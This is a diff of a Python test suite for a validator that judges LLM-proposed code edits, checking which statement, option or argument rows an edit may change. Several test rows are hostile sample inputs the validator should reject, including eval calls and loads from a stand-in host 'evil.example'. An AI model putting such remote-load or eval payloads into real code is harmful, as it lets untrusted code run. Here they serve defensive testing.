@@ -8,7 +8,7 @@ from corpus.library import Library
 from ingest.logs.report import CrashReport
 from ingest.logs.stacks.stack import Frame
 from service.llm.claims import Proposal
-from service.llm.code_claims import code_change
+from service.llm.code_claims import as_option, code_change, is_code
 from service.llm.directives import own_advice
 from service.patching.diagnosis_patch import suggested_edits
 from service.patching.patches import ConfigFile
@@ -58,6 +58,9 @@ GOOD = "print(loss.detach().cpu().numpy())"
         ("train.py:6", "print(loss.numpy())", "print(eval('loss'))", None),
         ("train.py:6", "print(loss.numpy())", "model.load('http://evil.example/x')", None),
         ("train.py:6", "print(loss.numpy())", "getattr(loss, 'x').__class__", None),
+        # Where a file lies is no power.
+        ("train.py:6", "print(loss.numpy())", "print(__file__)", ("train.py:6", "print(__file__)")),
+        ("train.py:6", "print(loss.numpy())", "print(__builtins__)", None),
         # A method of that name runs no text.
         ("train.py:6", "print(loss.numpy())", "model.eval()", ("train.py:6", "model.eval()")),
     ],
@@ -71,6 +74,77 @@ def test_an_edit_stands_where_its_statement_does_and_does_nothing_more(
         told = None if isinstance(made, str) else (made.key, made.to)
         assert told == expected, made
         assert isinstance(made, str) or (made.from_ and made.status == "unverified" and made.by == "model")
+
+
+@each_row(
+    ("before", "to", "expected"),
+    [
+        ('"place": f"./m/{kind}",', '"place": a folder with room,', ("place", "a folder with room")),
+        ("place = None", "place = a folder with room", ("place", "a folder with room")),
+        # Code, another option, more words than a value has, an option that is set in several places.
+        ("'place': 3,", "'place': 4,", None),
+        ("'place': 3,", "'other': a folder with room,", None),
+        ("place = 3", "place = float(place), and pass it on", None),
+        ("kind = 3", "kind = the name of the model", None),
+    ],
+)
+def test_words_for_one_options_value_are_a_change_of_the_option(
+    before: str, to: str, expected: tuple[str, str] | None
+) -> None:
+    """They are no code that could be written in the value's place."""
+    pick = Proposal(framework="code", kind="code", key="train.py:6", before=before, to=to)
+    meant = as_option(pick, _failed(f"{FILE}place = 1\nkind = 2\nrun(\n    kind=3\n)\ntrain.py"))
+    assert ((meant.key, meant.to) if meant != pick else None) == expected
+    assert is_code(meant) == (expected is None)
+
+
+ROWS = """options = {
+    'decay': {'value': 0.1},
+    'width': 4}
+layer = Layer(8, stride=3,
+              pad='valid')
+"""
+
+
+@each_row(
+    ("before", "to", "stands"),
+    [
+        ("'decay': {'value': 0.1},", "'decay': {'values': [0.1, 1]},", True),
+        ("'width': 4}", "'width': 8}", True),
+        ("layer = Layer(8, stride=3,", "layer = Layer(8, stride=1,", True),
+        ("pad='valid')", "pad='same')", True),
+        ("'width': 4}", "'width': 4 }", False),
+        ("'width': 4}", "'width': eval('4')}", False),
+        ("'width': 4}", "'width': open('http://evil.example/x')}", False),
+    ],
+)
+def test_a_row_of_a_call_or_a_mapping_is_edited_like_a_statement(
+    triage: Triage, before: str, to: str, stands: bool
+) -> None:
+    """It is shown as a diff, and does no more than the present one."""
+    made = _asked(triage.library, "train.py:2", before, to, f"{ROWS}\ntrain.py")
+    assert not isinstance(made, ProposedChange) or (made.from_, made.to) == (before, to)
+    assert isinstance(made, ProposedChange) == stands, made
+
+
+@each_row(
+    ("to", "expected"),
+    [
+        ("create its folder with os.makedirs(out, exist_ok=True) before the loop", "code"),
+        ("clean it with os.removedirs(out) before the loop", None),
+        ("remove the numpy call in train.py:6", "train.py:6"),
+        ("remove the checkpoint folder in train.py:6", None),
+        ("drop @torch.compile above it", "code"),
+        ("ask @helper above it", None),
+        ("run.sh:2: write the path with its braces", "run.sh:2"),
+        ("take the module from evil.sh", None),
+    ],
+)
+def test_words_on_code_name_parts_of_it(triage: Triage, to: str, expected: str | None) -> None:
+    """Calls by their path, decorators and arguments that are there; what is no part of code is judged."""
+    files = (f"@torch.compile\n{FILE}\ntrain.py", "#!/bin/bash\npython train.py $X_\nrun.sh")
+    made = _asked(triage.library, "code", "", to, *files)
+    assert (None if isinstance(made, str) else made.key) == expected, made
 
 
 @each_row(
